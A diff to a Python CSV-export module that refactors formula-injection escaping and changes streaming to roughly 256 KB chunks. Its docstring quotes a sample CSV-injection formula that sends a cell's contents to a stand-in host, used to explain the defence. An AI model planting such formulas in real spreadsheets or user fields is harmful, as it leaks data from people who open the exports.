@@ -1,6 +1,6 @@
 """CSV downloads: every export goes through ``csv_download`` so each one is formula-safe and
-audited, and streamed: the rows (already read) are written a few hundred at a time, so the
-first bytes leave at once and the whole file is never held twice.
+audited, and streamed: the rows (already read) are written a quarter of a megabyte at a time,
+so the first bytes leave early and the whole file is never held twice.
 
 A cell such as ``=HYPERLINK("https://evil.example?"&A2, "Open")`` typed into a contact's name
 runs as a formula when the export is opened in Excel or LibreOffice (CSV injection, OWASP). A
@@ -35,22 +35,21 @@ def spreadsheet_safe(value: Any) -> Any:
     >>> [spreadsheet_safe(v) for v in [0.15318376547480902, 118925.004999, 2.0, -0.00004]]
     [0.1532, 118925.0, 2.0, 0.0]
     """
-    if value is None:
-        return ""
-    if isinstance(value, float):
-        return round(value, 2 if abs(value) >= 1 else 4) + 0.0  # + 0.0: no "-0.0"
-    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
-        return "'" + value
-    return value
+    return safe_cells((value,))[0]
 
 
-def _safe_row(row: Iterable[Any]) -> list[Any]:
-    """:func:`spreadsheet_safe` of each value; text, most of the cells, checked in place (an
-    export writes hundreds of thousands of cells: a call each costs more than the check)."""
-    safe = spreadsheet_safe
+def safe_cells(row: Iterable[Any]) -> list[Any]:
+    """:func:`spreadsheet_safe` of each value of a row, in one pass: an export writes hundreds
+    of thousands of cells, and a call per cell cost more than the work."""
     first = _FORMULA_FIRST
     return [
-        ("'" + value if value[:1] in first else value) if type(value) is str else safe(value)
+        ("'" + value if value[:1] in first else value)
+        if isinstance(value, str)
+        else round(value, 2 if value >= 1.0 or value <= -1.0 else 4) + 0.0  # + 0.0: no "-0.0"
+        if isinstance(value, float)
+        else ""
+        if value is None
+        else value
         for value in row
     ]
 
@@ -61,18 +60,20 @@ def csv_text(columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> tuple
     return "".join(csv_chunks(columns, values)), len(values)
 
 
-CHUNK_ROWS = 500
+# Characters per chunk: each chunk is one hop from the worker thread to the event loop and one
+# compressed write (500 rows a chunk made an export of 8,540 contacts 18 hops).
+CHUNK_CHARS = 256 * 1024
 
 
 def csv_chunks(columns: Sequence[str], rows: Iterable[Sequence[Any]]) -> Iterator[str]:
-    """The CSV a chunk at a time: the header, then ``CHUNK_ROWS`` rows per chunk; each row's
-    values in the columns' order, made spreadsheet-safe."""
+    """The CSV a chunk at a time: the header, then about ``CHUNK_CHARS`` characters of rows per
+    chunk; each row's values in the columns' order, made spreadsheet-safe."""
     buffer = io.StringIO()
     writer = csv.writer(buffer)
     writer.writerow(columns)
-    for count, row in enumerate(rows, 1):
-        writer.writerow(_safe_row(row))
-        if count % CHUNK_ROWS == 0:
+    for row in rows:
+        writer.writerow(safe_cells(row))
+        if buffer.tell() >= CHUNK_CHARS:
             yield buffer.getvalue()
             buffer.seek(0)
             buffer.truncate()
